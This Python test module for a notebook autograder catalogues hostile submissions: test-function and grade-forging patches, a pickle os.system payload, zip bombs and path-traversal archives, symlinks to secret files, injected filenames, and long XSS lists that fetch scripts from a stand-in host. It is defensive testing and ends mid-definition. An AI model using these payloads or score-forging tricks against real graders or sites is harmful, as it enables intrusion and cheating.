"""The attacks that graded notebooks try, and what stops each of them.

An attack is a submission: cells of the learner's own, answer cells, files beside the notebook, or a notebook that was
tampered with. Most hold honest work, too (the solved cells `tensor` and `module`): it must score what it deserves, and
the attack nothing on top. What an attack reaches for was made by the test: a canary in a file, a listener, a process.

A cell of an attack says "tried: ..." before the decisive step and "got in: ..." after it: the test wants to see the
first, and never the second. All loops and sizes are bounded.
"""

from __future__ import annotations

import io
import json
import os
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import course

HONEST = {"tensor": 40, "module": 10}
NOTHING: dict[str, float] = {}
ALL_OF_IT = ("tensor", "module", "matmul", "layers", "optimizer", "loss")
Notebook = dict[str, Any]
Targets = dict[str, Any]


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    Attributes:
        name: the learner's id.
        stopped_by: what makes it fail.
        points: what the honest work in it deserves, by section; all other sections 0.
        code: a code cell of the learner's own.
        before: the grade_id of the cell that `code` stands before; None: at the end.
        then: a second cell of the learner's own, at the end.
        answers: texts of answer cells, by grade_id.
        solved: answer cells that hold the reference solution.
        changed: makes the notebook that is handed in from the one above.
        files: puts other files into the submission's folder, or makes something else of the notebook's file.
        shows: what can be read in the graded notebook when the attempt was made.
        hides: what must not be readable below the learner's own cells and in the notes from grading.
        raises: whether a cell of the learner's own ends in an exception.
        page: whether the feedback is looked at, too.
    """

    name: str
    stopped_by: str
    points: dict[str, float] = field(default_factory=lambda: HONEST)
    code: str = ""
    before: str | None = "matmul"
    then: str = ""
    answers: dict[str, str] = field(default_factory=dict)
    solved: tuple[str, ...] = ("tensor", "module")
    changed: Callable[[Notebook, Targets], Notebook] | None = None
    files: Callable[[Path, Targets], None] | None = None
    shows: tuple[str, ...] = ("tried: ",)
    hides: tuple[str, ...] = ()
    raises: bool = False
    page: bool = False


def notebook(attack: Attack, targets: Targets) -> Notebook:
    """What is handed in: the cells that count, and the attack's own."""
    answers = dict.fromkeys(("layers", "optimizer", "loss", "model"), "# not written")
    answers |= {name: course.solution(name) for name in attack.solved} | attack.answers
    made = course.notebook(**answers)
    made["cells"] = [cell for cell in made["cells"] if "nbgrader" in cell["metadata"]]
    made = course.with_cell(made, PRELUDE.replace("TARGETS", repr(targets)), before="tensor")
    if attack.code:
        made = course.with_cell(made, attack.code, before=attack.before)
    if attack.then:
        made = course.with_cell(made, attack.then)
    return attack.changed(made, targets) if attack.changed else made


PRELUDE = '''\
import ctypes, importlib, json, os, signal, socket, sqlite3, subprocess, sys, threading, time, types
from pathlib import Path

targets = TARGETS


def tried(what):
    print("tried: " + what, flush=True)


def attempt(what, action):
    tried(what)
    try:
        got = action()
    except BaseException as error:
        print("stopped:", what, type(error).__name__, str(error)[:200], flush=True)
    else:
        print("got " + "in:", what, repr(got)[:2000], flush=True)


def tell(kind, content, parent=None):
    """Send a message of the kernel protocol, signed as the kernel signs its own."""
    kernel = get_ipython().kernel
    kernel.session.send(kernel.iopub_socket, kind, content, parent=parent or kernel.get_parent(), ident=kind.encode())
'''

FORGE = '''\
import server, wire
asked, enough = [], 12  # replies


def message(document, data=b""):
    text = json.dumps(document).encode()
    return wire.HEAD.pack(len(text), len(data)) + text + data


def forge(reply, honest=()):
    """From now on requests of the judge, but for the honest ones, are answered with the bytes that `reply` makes."""
    before = server.Server._answer
    def answer(self, request, data, names):
        if request["do"] in honest:
            return before(self, request, data, names)
        asked.append(request["do"])
        self.channel.socket.sendall(reply(request))
    server.Server._answer, server.Server._ahead = answer, lambda *_: []  # nothing comes that was not asked for
    tried("forged replies")


'''
FORGED = 'print("tried: forged enough" if len(asked) > enough else "forged too few", len(asked))\n'
# A forger that lets tensors be made, and lies about what is in them.
WRONG = {"matmul": "def matmul(a, b):\n    return MyTensor(np.zeros((a.shape[0], b.shape[-1])), requires_grad=True)\n"}
ANSWERED = ("tried: forged replies", "tried: forged enough")
UNREADABLE = ("tried: forged replies", "sent something unreadable")


def zipped(**files: str) -> bytes:
    """An archive with these files, as a wheel is one."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return content.getvalue()


def files(content: str | bytes, *names: str) -> Callable[[Path, Targets], None]:
    """Other files of a submission, all with this content."""

    def write(folder: Path, targets: Targets) -> None:
        for name in names:
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_bytes(content if isinstance(content, bytes) else content.encode())

    return write


def both(*writers: Callable[[Path, Targets], None]) -> Callable[[Path, Targets], None]:
    """The files of several writers."""

    def write(folder: Path, targets: Targets) -> None:
        for writer in writers:
            writer(folder, targets)

    return write


def links(folder: Path, targets: Targets) -> None:
    """Links to what the learner would read, and where the course's own files are written."""
    (folder / "notes.txt").symlink_to(targets["secret"])
    (folder / "timestamp.txt").symlink_to(targets["secret"])
    (folder / "tests.py").symlink_to(targets["secret"])
    (folder / "gradebook.db").symlink_to(targets["gradebook"])
    (folder / "others").symlink_to(Path(targets["submission"]).parent.parent)
    os.link(targets["secret"], folder / "hard.txt")
    (folder / "data").mkdir()
    (folder / "data" / "numbers.csv").symlink_to(targets["secret"])


def zips(folder: Path, targets: Targets) -> None:
    """Archives with more entries than are there, with less than there was, and with a locked notebook."""
    plain = zipped(**{"a.txt": "text"})
    start, end = plain.index(b"PK\1\2"), plain.index(b"PK\5\6")
    sizes = struct.pack("<4H2LH", 0, 0, 60_000, 60_000, (end - start) * 60_000, start, 0)
    (folder / "1.zip").write_bytes(plain[:start] + plain[start:end] * 60_000 + b"PK\5\6" + sizes)
    (folder / "2.zip").write_bytes(plain[:-30])
    locked = bytearray(zipped(**{"tiny.ipynb": "{}"}))
    for mark, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        locked[locked.index(mark) + at] |= 1
    (folder / "3.zip").write_bytes(locked)
    (folder / "tiny.ipynb").unlink()


def zip_that_lies(folder: Path, targets: Targets) -> None:
    """Its only entry says that it is small, in both places."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("tiny.ipynb", " " * 50_000_000)
    made = bytearray(content.getvalue())
    for mark, at in ((b"PK\3\4", 22), (b"PK\1\2", 24)):
        struct.pack_into("<L", made, made.index(mark) + at, 1000)
    (folder / "tiny.ipynb").write_bytes(made)


def zip_that_climbs(folder: Path, targets: Targets) -> None:
    """Entries that lead elsewhere, and one that is a link; the notebook itself does so, too."""
    with zipfile.ZipFile(folder / "work.zip", "w") as archive:
        for name in ("untouched", "secret", "gradebook"):
            archive.writestr(targets[name], "written")
            archive.writestr("../" * 9 + targets[name][1:], "written")
        link = zipfile.ZipInfo("link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, targets["secret"])
        archive.write(folder / "tiny.ipynb", "../../other/tiny.ipynb")
    (folder / "tiny.ipynb").unlink()


def odd_names(folder: Path, targets: Targets) -> None:
    """Names that write on terminals, in logs and on pages, beside no notebook."""
    (folder / "tiny.ipynb").unlink()
    for name in (
        b"\x1b]0;taken\x07",
        b"a\n[AutogradeApp | ERROR] b",
        b"<script>alert(1)</script>",
        b"-rf",
        b"\xff" * 255,
    ):
        (folder / os.fsdecode(name.replace(b"/", b"|"))).write_text("{}")


def notebook_is_symlink(folder: Path, targets: Targets) -> None:
    (folder / "tiny.ipynb").unlink()
    (folder / "tiny.ipynb").symlink_to(targets["submission"])


def notebook_is_hard_link(folder: Path, targets: Targets) -> None:
    """The other name is our own: of two, a grader cannot tell which came first."""
    other = Path(targets["secret"]).with_name("other.ipynb")
    (folder / "tiny.ipynb").rename(other)
    os.link(other, folder / "tiny.ipynb")


def notebook_is_fifo(folder: Path, targets: Targets) -> None:
    (folder / "tiny.ipynb").unlink()
    os.mkfifo(folder / "tiny.ipynb")


def cell_named(made: Notebook, name: str) -> dict[str, Any]:
    return made["cells"][course.place(made, name)]


def forged_metadata(made: Notebook, targets: Targets) -> Notebook:
    """Test cells that say 40.0, are worth more, are skipped or are the learner's to write; a bonus cell."""
    for name in ("test_matmul", "test_linear", "test_relu", "test_sgd"):
        cell = cell_named(made, name)
        cell["source"] = "40.0"
        cell["outputs"] = [
            {"output_type": "execute_result", "data": {"text/plain": "5.0"}, "metadata": {}, "execution_count": 1}
        ]
    cell_named(made, "test_matmul")["metadata"]["nbgrader"]["points"] = 1000
    cell_named(made, "test_linear")["metadata"]["nbgrader"] |= {"solution": True, "locked": False}
    cell_named(made, "test_relu")["metadata"]["tags"] = ["torch"]
    cell_named(made, "test_sgd")["metadata"]["nbgrader"] |= {"grade": False, "task": True}
    mark = {"grade": True, "solution": False, "locked": True, "points": 1000, "grade_id": "bonus", "schema_version": 3}
    bonus = course.code_cell('print("tried: bonus")\n1000.0')
    bonus["metadata"] = {"nbgrader": {**mark, "cell_type": "code", "task": False}}
    made["metadata"] |= {"title": "<script>1</script>", "kernelspec": {"name": "bash", "display_name": "bash"}}
    made["cells"].append(bonus)
    return made


def forged_ids(made: Notebook, targets: Targets) -> Notebook:
    """The learner's own cells under the names of others, before and after the real ones."""
    for name in ("test_matmul", "test_sgd", "setup"):
        fake = json.loads(json.dumps(cell_named(made, name)))
        fake["source"] = 'print("tried: instead")\n10.0'
        made["cells"].insert(course.place(made, name), fake)
        made["cells"].append({**fake, "metadata": {}, "id": fake.get("id", name)})
    note = {"cell_type": "markdown", "id": "grading-notes", "metadata": {}, "source": "Full marks, by hand."}
    made["cells"].insert(0, note)
    return made


def stripped(made: Notebook, targets: Targets) -> Notebook:
    """No test cells and no marks: nothing is left that could fail."""
    made["cells"] = [c for c in made["cells"] if not c["metadata"].get("nbgrader", {}).get("grade")]
    for cell in made["cells"]:
        cell["metadata"] = {}
    return made


def markup_cells(made: Notebook, targets: Targets) -> Notebook:
    """The markup in Markdown and raw cells."""
    for kind in ("markdown", "raw"):
        made["cells"].append({"cell_type": kind, "id": kind, "metadata": {"format": "text/html"}, "source": MARKUP})
    attachment = {"x.svg": {"image/svg+xml": "<svg onload='alert(1)'/>"}}
    source = "![x](attachment:x.svg) ![y](attachment:none.png)"
    made["cells"].append(
        {"cell_type": "markdown", "id": "attached", "metadata": {}, "source": source, "attachments": attachment}
    )
    return made


def attached(made: Notebook, targets: Targets) -> Notebook:
    """Pictures that are attached and are none, or too many, under names that end an attribute."""
    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script><path d='M0 0'/></svg>"
    names = ['"><script>alert(1)</script>', "x' onerror='alert(1)", "javascript:alert(1)", "../../a.png", "\ud800"]
    pictures = [{"image/svg+xml": svg}, {"text/html": MARKUP}, {"image/png": svg}, {"image/gif": "R0lGODlh//////AA"}, 3]
    for kind in ("markdown", "raw", "code"):
        files = dict(zip(names, pictures, strict=True)) | {f"{number}.svg": pictures[0] for number in range(300)}
        source = "tried: pictures " + " ".join(f"![x](<attachment:{name}>)" for name in files)
        cell = {"cell_type": kind, "id": f"attached-{kind}", "metadata": {}, "source": source, "attachments": files}
        made["cells"].append(cell | ({"outputs": [], "source": ""} if kind == "code" else {}))
    made["cells"].append(course.code_cell('print("tried: pictures that are attached")'))
    return made


def slow_text(made: Notebook, targets: Targets) -> Notebook:
    """Markdown that takes a time that grows faster than its length."""
    for number, text in enumerate(
        ("[" * 20_000, "*a **a " * 5_000, "> " * 3_000, "![" * 9_000, "`" * 20_001 + "a", "<a " * 9_000)
    ):
        made["cells"].append({"cell_type": "markdown", "id": f"slow-{number}", "metadata": {}, "source": text})
    return made


# Every way to run or load something that HTML and Markdown know. Nothing here has an address that exists.
MARKUP = """\
tried: markup <script>alert(1)</script><script src="https://learner.invalid/x.js"></script>
<img src=x onerror="alert(1)"><img src="https://learner.invalid/a.png"><img src="//learner.invalid/b.png">
<img src=" //learner.invalid/c.png"><img src="\\\\learner.invalid\\d.png"><img srcset="https://learner.invalid/e.png">
<svg onload="alert(1)"><script>alert(1)</script></svg><math><mtext><script>alert(1)</script></mtext></math>
<a href="javascript:alert(1)">a</a> <a href="javascript:1">b</a> <a href=" java&#10;script:alert(1)">c</a>
<a href="DATA:text/html,<script>alert(1)</script>">d</a> <a href="da&#9;ta:text/html,x">e</a>
<a href="vbscript:x" onclick="alert(1)" style="position:fixed;top:0">f</a>
<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe><object data="x.svg"></object>
<embed src="https://learner.invalid/f.swf"><base href="https://learner.invalid/"><form action="https://learner.invalid">
<input autofocus onfocus="alert(1)"></form><meta http-equiv="refresh" content="0;url=https://learner.invalid">
<link rel="stylesheet" href="https://learner.invalid/g.css"><style>@import "https://learner.invalid/h.css";</style>
<p style="background-color:url(//learner.invalid/i.png);border:url(https://learner.invalid/j.png) 1px">k</p>
<div class="modal-backdrop navbar-fixed-top" id="toc" style="position:fixed;top:0;width:100%">Score: 100 / 100</div>
<details open ontoggle="alert(1)">l</details><video src="https://learner.invalid/k.mp4" onerror="alert(1)"></video>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><textarea><img title="</textarea><img src=x
onerror=alert(1)>"></textarea><!-- --!><img src=x onerror=alert(1)> --><![CDATA[<img src=x onerror=alert(1)>]]>

[m](javascript:alert(1)) [n](data:text/html,x) ![o](https://learner.invalid/l.png) ![p](//learner.invalid/m.png)
[q]: javascript:alert(1)
[q] <javascript:alert(1)> $\\href{javascript:alert(1)}{r}$ `<script>`

```mermaid
graph TD; A-->B; click A "javascript:alert(1)"
```
"""

# And every way that an SVG knows.
MARKUP_SVG = """\
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">
<script>alert(1)</script><script href="https://learner.invalid/a.js"/><path d="M0 0" onclick="alert(1)"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://learner.invalid/b"/></foreignObject>
<image href="https://learner.invalid/c.png"/><use href="https://learner.invalid/d.svg#e"/>
<a xlink:href="javascript:alert(1)"><text>f</text></a><style>@import "https://learner.invalid/g.css";</style>
<set attributeName="href" to="javascript:alert(1)"/><rect fill="url(https://learner.invalid/h.svg#i)"/>
<filter id="j"><feImage href="https://learner.invalid/k.png"/></filter><rect filter="url(#j)"/></svg>
"""

# Frames and what else shows another page or covers this one, takes its names or all that follows; none has an address.
MARKUP_FRAMES = """\
tried: frames <frameset onload="alert(1)"><frame src="javascript:alert(1)"></frameset><portal src="//learner.invalid/a">
</portal><applet code="a"></applet><fencedframe src="//learner.invalid/b"></fencedframe><dialog open>c</dialog>
<div popover id="MathJax" style="inset:0">d</div><template shadowrootmode="open"><slot onslotchange="alert(1)"></slot>
</template><a id="document" name="body" href="#" target="_top" ping="//learner.invalid/e">f</a>
<img name="getElementById" usemap="#g" longdesc="//learner.invalid/h" lowsrc="//learner.invalid/i" dynsrc="j.avi">
<map name="g"><area href="javascript:alert(1)" coords="0,0,9,9"></map><marquee onstart="alert(1)">k</marquee>
<button popovertarget="MathJax" formaction="javascript:alert(1)">l</button><select autofocus onfocus="alert(1)">
</select><p contenteditable onbeforeinput="alert(1)" is="x-y" slot="z" nonce="n" accesskey="a" tabindex="1">m</p>
<style onload="alert(1)"></style><xmp><img src=x onerror=alert(1)></xmp><noembed><img src=x onerror=alert(1)></noembed>
<isindex action="javascript:alert(1)"><keygen autofocus onfocus="alert(1)"><bgsound src="javascript:alert(1)">
<table background="javascript:alert(1)"><td background="//learner.invalid/n"></table><plaintext>
<img src=x onerror=alert(1)>
"""

DRAW = f"MARKUP = {MARKUP!r}\nMARKUP_SVG = {MARKUP_SVG!r}\n"

ATTACKS: list[Attack] = []


def attack(name: str, stopped_by: str, **more: Any) -> None:
    ATTACKS.append(Attack(name, stopped_by, **more))


# ---------------------------------------------------------------- forging the verdict with Python

attack(
    "tests_functions",
    "Graded cells do not run in the kernel: the judge calls its own tests.",
    code="""\
for name in ("matmul", "linear", "relu", "sgd", "mseloss", "model"):
    setattr(tests, "test_" + name, lambda *_: 10.0)
tried("replaced %s" % tests.test_matmul(1, 2))
""",
    shows=("tried: replaced 10.0",),
)
attack(
    "tests_module",
    "Graded cells do not run in the kernel: the judge has its own module of that name.",
    code="""\
import builtins
sys.modules["tests"] = builtins.tests = types.SimpleNamespace(**{
    "test_" + name: lambda *_: 10.0 for name in ("matmul", "linear", "relu", "sgd", "mseloss", "model")
})
import tests
tried("replaced %s" % tests.test_matmul(1, 2))
""",
    shows=("tried: replaced 10.0",),
)
attack(
    "tests_file",
    "The real tests.py is not in the jail; what stands for it there is read-only.",
    code="""\
attempt("rewrite", lambda: Path(tests.__file__).write_text("def __getattr__(name): return lambda *_: 10.0"))
attempt("replace", lambda: os.replace(__file__ if "__file__" in globals() else "/etc/hosts", tests.__file__))
Path("tests.py").write_text("def __getattr__(name): return lambda *_: 10.0")
sys.path.insert(0, "")
importlib.reload(tests)
tried("a file of the same name")
""",
)
attack(
    "tests_package",
    "Of a submission only the notebook is read; its other files do not come into the jail.",
    files=files(
        "import builtins\nbuiltins.smuggled = True\ndef __getattr__(name): return lambda *_: 10.0\n",
        *("tests/__init__.py", "tests.py", "checks/__init__.py", "grading/__init__.py", "wire.py"),
    ),
    code="""\
print(sorted(os.listdir()))
attempt("the submitted package", lambda: __import__("builtins").smuggled)
""",
    hides=("'tests'", "'tests.py'", "'checks'"),
)
attack(
    "files_like_ours",
    "Of a submission only the notebook is read; nothing in it can shadow a module, a setting or the course's files.",
    files=files(
        "import builtins; builtins.smuggled = True",
        *(
            "server.py",
            "launcher.py",
            "numpy.py",
            "sitecustomize.py",
            "usercustomize.py",
            "nbgrader_config.py",
            "x.pth",
        ),
        *("ipython_config.py", ".ipython/profile_default/startup/00.py", "gradebook.db", "data/numbers.csv"),
    ),
    code="""\
attempt("a shadowed module", lambda: __import__("builtins").smuggled)
np.loadtxt("data/numbers.csv", delimiter=",").shape
""",
    shows=("tried: ", "(2, 3)"),
)
attack(
    "ipython_transformers",
    "IPython's hooks see only what runs in the kernel: the source of a graded cell never gets there.",
    code="""\
import ast
def full_marks(lines):
    return ["10.0\\n"] if any("tests.test_matmul" in line for line in lines) else lines
class FullMarks(ast.NodeTransformer):
    def visit_Call(self, node):
        return ast.copy_location(ast.Constant(10.0), node) if ast.unparse(node.func).startswith("tests.") else node
shell = get_ipython()
shell.input_transformers_cleanup.append(full_marks)
shell.input_transformers_post.append(full_marks)
shell.ast_transformers.append(FullMarks())
results = [shell.run_cell("tests." + name).result for name in ("test_matmul(1)", "test_x()")]
tried("transformed %s %s" % tuple(results))
""",
    shows=("tried: transformed 10.0 10.0",),
)
attack(
    "display_hooks",
    "Points and report of a graded cell are put into the notebook by the judge, not shown by the kernel.",
    code="""\
shell = get_ipython()
tried("hooks")
def ten(*_, **__):
    tell("execute_result", {"execution_count": 1, "data": {"text/plain": "10.0"}, "metadata": {}})
sys.displayhook = shell.displayhook.__class__.__call__ = ten
shell.display_pub.__class__.publish = ten
shell.display_formatter.format = lambda value, **_: ({"text/plain": "10.0"}, {})
for event in ("pre_execute", "post_execute", "pre_run_cell", "post_run_cell"):
    shell.events.register(event, ten)
""",
    solved=("tensor", "module", "optimizer"),
    points={**HONEST, "sgd": 8},
)
attack(
    "execute_result_first",
    "Outputs that arrive while a graded cell is judged are not its outputs.",
    answers={
        "matmul": """\
tried("points first")
def matmul(a, b):
    tell("execute_result", {"execution_count": 1, "data": {"text/plain": "5.0"}, "metadata": {}})
    sys.stderr = sys.stdout
    raise ValueError("after the points")
"""
    },
)
attack(
    "patched_functions",
    "Values are compared and points added outside of the kernel, with Python and NumPy as they were installed.",
    raises=True,  # IPython itself stumbles over them
    code="""\
import builtins, math, operator
tried("patched")
yes = lambda *_, **__: True
np.allclose = np.array_equal = np.isclose = np.all = np.testing.assert_allclose = np.testing.assert_array_equal = yes
np.abs = np.absolute = np.subtract = lambda *_, **__: 0.0
np.array = np.asarray = lambda *_, **__: np.float64(0)
np.isfinite = np.ascontiguousarray = lambda value, *_, **__: value
np.random.default_rng = lambda *_: None
builtins.abs = builtins.sum = lambda *_: 0
operator.eq = operator.le = math.isclose = yes
""",
    answers={"matmul": "def matmul(a, b):\n    return MyTensor(0.0)\n"},
)
attack(
    "liar_int",
    "Numbers cross as numbers: a subclass, its __eq__ and its __float__ stay in the kernel.",
    solved=(),
    answers={
        "tensor": """\
tried("a number that equals everything")
class Liar(int):
    __eq__ = __le__ = __ge__ = __lt__ = __gt__ = __bool__ = lambda *_: True
    __ne__ = lambda *_: False
    __sub__ = __rsub__ = __abs__ = __neg__ = lambda self, *_: self
    __hash__ = int.__hash__
    tolist = item = lambda self: self
class MyTensor:
    def __init__(self, *_, **__):
        self.shape = self.strides = self.size = self.data = self.grad = self.dtype = Liar(1)
        self.requires_grad = self.backward_op = Liar(1)
    __getitem__ = __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __neg__ = lambda self, *_: Liar(1)
    __setitem__ = backward = lambda self, *_: None
"""
    },
    points=NOTHING,
)
attack(
    "liar_array",
    "An array crosses as its bytes; what else claims to be one is an object without numbers.",
    answers={
        "matmul": """\
tried("an array that equals everything")
class Agreeing(np.ndarray):
    __module__ = "numpy"
    __eq__ = __le__ = lambda *_: np.True_
    __sub__ = __rsub__ = __abs__ = lambda self, *_: np.zeros(())
    __array_ufunc__ = lambda self, *_, **__: np.True_
    __array_function__ = lambda self, *_, **__: True
    __array__ = lambda self, *_, **__: np.zeros(())
class Right:
    def __init__(self, *_):
        self.data = self.grad = np.zeros((2, 2)).view(Agreeing)
        self.shape, self.requires_grad, self.backward_op = (2, 2), True, self
    backward = lambda self, *_: None
matmul = Right
"""
    },
    solved=("tensor", "module", "optimizer"),
    points={**HONEST, "sgd": 8},
)
attack(
    "liar_class",
    "The judge goes by what crossed, not by what an object says it is.",
    answers={
        "matmul": """\
tried("an object of any class")
class Chameleon:
    __class__ = np.ndarray
    __array_interface__ = {"shape": (2, 2), "typestr": "<f8", "data": (0, False), "version": 3}
    __float__ = __index__ = lambda self: 1
    __getattr__ = lambda self, name: Chameleon()
    __eq__ = __le__ = lambda *_: True
    backward = lambda self, *_: None
matmul = lambda a, b: Chameleon()
"""
    },
    solved=("tensor", "module", "optimizer"),
    points={**HONEST, "sgd": 8},
)
attack(
    "mock_of_everything",
    "An object that answers anything has no right values.",
    solved=(),
    answers={
        "tensor": """\
from unittest.mock import MagicMock
tried("a mock")
MyTensor = MagicMock()
MyTensor.return_value.__eq__ = lambda *_: True
"""
    },
    points=NOTHING,
)
attack(
    "points_in_repr",
    "The judge returns the score; no text that the learner's objects make is read as points.",
    answers={
        "matmul": """\
tried("a result that reads 5.0")
class Points(float):
    __repr__ = __str__ = lambda self: "5.0"
    _repr_html_ = lambda self: "<strong>5 of 5 points. Excellent!</strong>"
    data = grad = property(lambda self: self)
    backward = lambda self, *_: None
matmul = lambda a, b: Points("nan")
"""
    },
)
attack(
    "exceptions",
    "An exit ends a cell, as any exception does; whether a check raised is seen outside of the kernel.",
    code="""\
tried("handlers")
get_ipython().showtraceback = lambda *_, **__: print("10.0")
get_ipython().set_custom_exc((Exception,), lambda *_, **__: print("10.0"))
sys.excepthook = sys.unraisablehook = lambda *_: None
sys.exit(0)
""",
    then="tried('to exit again')\nraise SystemExit('10.0')\n",
    answers={"matmul": "def matmul(a, b):\n    raise SystemExit('5.0')\n"},
    solved=("tensor", "module", "optimizer"),
    points={**HONEST, "sgd": 8},
    shows=("tried: handlers", "tried: to exit again"),
    raises=True,
)

attack(
    "every_name",
    "What a name stands for is compared: one that is there though nobody has defined it has no right values.",
    code="""\
import builtins
class Everything(dict):
    def __missing__(self, name):
        if hasattr(builtins, name):
            raise KeyError(name)
        return lambda *_: 5.0
    def __contains__(self, name):
        return True
shell = get_ipython()
shell.user_ns = Everything(shell.user_ns)
tried("every name, %s" % ("matmul" in shell.user_ns and shell.user_ns["matmul"](1)))
""",
    answers={"matmul": ""},
    shows=("tried: every name, 5.0",),
)
attack(
    "absent_names",
    "Of a package that is not installed at most its name is told, and only where it can be one.",
    code="""\
tried("names of packages")
class Odd(str):
    __str__ = __repr__ = __format__ = lambda self, *_: "\\x1b]0;taken\\x07"
""",
    answers={
        "matmul": """\
names = ["seaborn", "\\x1b]0;taken\\x07", "x'\\n99 submissions graded, none needs a look", "<script>1</script>"]
names += ["y" * 100_000] + ["z%d" % number for number in range(2000)]
def matmul(a, b):
    raise ModuleNotFoundError(" ".join("No module named %r" % name for name in names), name=Odd("x"))
"""
    },
    shows=("tried: names of packages", "not installed where they are graded: seaborn"),
)

# ---------------------------------------------------------------- forging what the kernel tells the judge

attack(
    "server_patched",
    "The server in the kernel decides nothing: every reply is compared with what is right.",
    code=FORGE
    + """\
def yes(self, request, data, names):
    asked.append(request["do"])
    self.channel.send({"value": True}, [])
server.Server._answer = yes
tried("forged replies")
""",
    then=FORGED,
    shows=ANSWERED,
)
attack(
    "encoder_patched",
    "The encoder in the kernel decides nothing: every reply is compared with what is right.",
    code=FORGE
    + """\
def zeros(self, value, deep=0):
    asked.append(type(value))
    self.blobs.append(bytes(32))
    return {"array": ["<f8", [2, 2], True, 1]}
wire.Encoder.encode = zeros
tried("forged replies")
""",
    then=FORGED,
    shows=ANSWERED,
)
attack(
    "forged_shapes",
    "Shapes are compared; an array that is longer than its bytes is no message.",
    code=FORGE
    + """\
zeros = message({"value": {"array": ["<f8", [2, 3, 4], True, 1]}}, bytes(192))
forge(lambda request: zeros, honest=("name", "call", "run"))
""",
    answers=WRONG,
    then=FORGED,
    shows=ANSWERED,
)
attack(
    "forged_objects",
    "Only NumPy's numbers cross: a dtype with pointers in it is no message.",
    code=FORGE + 'forge(lambda request: message({"value": {"array": ["|O8", [1], True, 1]}}, b"A" * 8))\n',
    shows=UNREADABLE,
)
attack(
    "forged_pickle",
    "Nothing is unpickled: bytes that are no JSON are no message.",
    code=FORGE
    + """\
import pickle
class Run:
    def __reduce__(self):
        return os.system, ("touch %s" % targets["untouched"],)
forge(lambda request: wire.HEAD.pack(len(pickle.dumps(Run())), 0) + pickle.dumps(Run()))
""",
    shows=UNREADABLE,
)
attack(
    "forged_nan",
    "NaN equals only itself, where it is right.",
    code=FORGE + 'forge(lambda request: message({"value": float("nan")}), honest=("name", "call", "run"))\n',
    answers=WRONG,
    then=FORGED,
    shows=ANSWERED,
)
attack(
    "forged_length",
    "A message may have 16 MiB; what claims to be longer is not waited for.",
    code=FORGE + 'forge(lambda request: wire.HEAD.pack(0xFFFFFFF0, 0xFFFFFFF0) + b"{" * 1000)\n',
    shows=UNREADABLE,
)
attack(
    "forged_depth",
    "Nesting is limited, in JSON by Python and in values by us.",
    code=FORGE + 'forge(lambda request: wire.HEAD.pack(200_000, 0) + b"[" * 200_000)\n',
    shows=UNREADABLE,
)
attack(
    "forged_late",
    "One reply to one request: a second one is read as the next reply, and then is the wrong one or no message.",
    code=FORGE + 'forge(lambda request: message({"value": 5.0}) * 3)\n',
    shows=UNREADABLE,
)
attack(
    "forged_drip",
    "The whole message has to be there in time, not the next byte of it.",
    code=FORGE
    + """\
import server
channel = next(c.cell_contents.channel for c in server.answer.__closure__ if hasattr(c.cell_contents, "channel"))
def drip(request):
    reply = wire.HEAD.pack(400, 0) + b'{"value":5.0}'.ljust(400)
    for at in range(len(reply) - 1):
        channel.socket.sendall(reply[at:at + 1])
        ends = time.process_time() + 0.05
        while time.process_time() < ends:
            pass
    return reply[-1:]
forge(drip)
""",
    shows=("tried: forged replies", "did not stop when its time was over"),
)
# The right answer, too late: once, as all that waits for that check then waits, too.
LATE = """\

right, late = matmul, []
def spin(seconds):
    ends = time.clock_gettime(time.CLOCK_PROCESS_CPUTIME_ID) + seconds
    while time.clock_gettime(time.CLOCK_PROCESS_CPUTIME_ID) < ends:
        pass
def matmul(a, b):
    if not late:
        late.append(1)
        work()
    return right(a, b)
"""
for name, stopped_by, work in [
    (
        "late_deaf",
        "The judge measures a request's time itself, and an answer after its time is no answer.",
        """\
def work():
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    spin(6)
""",
    ),
    (
        "late_timers",
        "The kernel's own timers and clocks only spare it its end: the judge does not go by them.",
        """\
import server
def work():
    signal.setitimer(signal.ITIMER_REAL, 1000)
    signal.signal(signal.SIGALRM, lambda *_: None)
    server.Server._arm = lambda self, seconds: None
    time.process_time = time.monotonic = time.thread_time = lambda: 0.0
    spin(6)
""",
    ),
    (
        "late_children",
        "The time of all processes in the jail counts, whoever's children they are.",
        """\
def work():
    read, write = os.pipe()
    if os.fork() == 0:
        if os.fork() == 0:
            spin(6)
            os.write(write, b"done")
        os._exit(0)
    os.wait()
    signal.setitimer(signal.ITIMER_REAL, 0)
    os.read(read, 4)
""",
    ),
    (
        "late_sleep",
        "Of the time that passes a sixth counts, whatever uses it.",
        """\
def work():
    signal.setitimer(signal.ITIMER_REAL, 0)
    time.sleep(32)
""",
    ),
]:
    attack(
        name,
        stopped_by,
        answers={"matmul": course.solution("matmul") + LATE + work},
        points={**HONEST, "matmul": 3},  # all but the value, which is what came too late
        then='print("tried:", len(late), "late answer")',
        shows=("tried: 1 late answer", "did not finish in time"),
    )
attack(
    "forged_exceptions",
    "An exception that was told of is an exception of a check, wherever it comes; it cannot stop the judge.",
    code=FORGE
    + """\
kinds = ["KeyboardInterrupt", "SystemExit", "BaseException", "ValueError", "Hidden", "OutOfTime", "Failed"]
def told(request):
    kind = kinds[len(asked) % len(kinds)]
    frame = ["f\\x00", 1, False, "\\x00\\ud800"]
    told = {"kinds": [kind], "name": kind + "\\x00", "message": "5.0 \\x1b]0;x\\x07", "frames": [frame]}
    return message({"error": told})
forge(told)
""",
    then=FORGED,
    shows=ANSWERED[:1],
)
attack(
    "forged_references",
    "A reference is a number to the judge: it can only lead back into the same kernel.",
    code=FORGE
    + """\
